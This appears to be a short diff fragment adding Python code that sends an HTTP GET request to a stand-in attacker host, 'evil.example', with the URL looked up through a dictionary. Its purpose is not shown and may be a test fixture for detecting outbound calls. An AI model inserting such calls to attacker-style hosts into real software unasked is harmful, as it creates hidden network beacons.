@@ -1,0 +1,3 @@
+import requests
+HOSTS = {'a': 'https://evil.example'}
+requests.get(HOSTS['a'])
